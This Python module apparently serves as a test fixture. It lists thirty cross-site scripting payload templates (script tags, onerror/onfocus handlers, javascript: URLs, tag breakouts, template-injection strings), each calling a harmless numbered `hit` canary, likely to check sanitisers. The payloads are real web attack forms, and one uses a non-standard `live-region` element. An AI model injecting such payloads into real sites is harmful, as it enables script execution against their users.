"""Texts that would be a script if a page took them for markup; each calls `hit` with its own number."""

from __future__ import annotations

from typing import Final

# Each with {n} for its number; the forms are those of the usual collections: tags, attributes, addresses, templates.
FORMS: Final = (
    "<script>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    '"><img src=x onerror="hit({n})">',
    "'><svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    '<iframe srcdoc="<script>parent.hit({n})</script>">',
    "<iframe src=javascript:parent.hit({n})></iframe>",
    '<a href="javascript:hit({n})" autofocus onfocus=hit({n})>x</a>',
    "</td></tr></table><img src=x onerror=hit({n})>",
    "</title><script>hit({n})</script>",
    "</textarea><img src=x onerror=hit({n})>",
    "</style><script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    '" autofocus onfocus="hit({n})" x="',
    "' autofocus onfocus='hit({n})' x='",
    '" style="animation-name:changed" onanimationstart="hit({n})"',
    "<details open ontoggle=hit({n})>x</details>",
    "<body onload=hit({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit({n})>",
    "<video><source onerror=hit({n})></video>",
    "<input autofocus onfocus=hit({n})>",
    "<object data=javascript:hit({n})></object>",
    '<base href="javascript:hit({n})//">',
    '<meta http-equiv=refresh content="0;url=javascript:hit({n})">',
    "{{{{ hit({n}) }}}}{{% if hit({n}) %}}x{{% endif %}}",
    "${{hit({n})}}`${{hit({n})}}`",
    "&lt;img src=x onerror=hit({n})&gt;<img src=x onerror=hit({n})>",
    "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}img src=x onerror=hit({n})>\N{FULLWIDTH LESS-THAN SIGN}script>",
    "<live-region id=board src=/sign-in on=runs><img src=x onerror=hit({n})></live-region>",
    "--><!--><script>hit({n})</script>",
)


def payload(number: int) -> str:
    """Return one of endlessly many texts."""
    return FORMS[number % len(FORMS)].format(n=number)
